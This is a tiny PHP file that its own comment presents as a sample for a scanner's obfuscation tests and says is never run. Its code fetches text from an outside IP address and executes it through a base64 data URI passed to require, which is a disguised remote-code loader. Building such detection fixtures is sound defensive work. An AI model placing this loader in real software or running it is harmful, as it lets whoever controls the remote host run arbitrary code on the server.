<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$src = file_get_contents('http://198.51.100.7/p.txt');
require 'data:text/plain;base64,' . base64_encode($src);
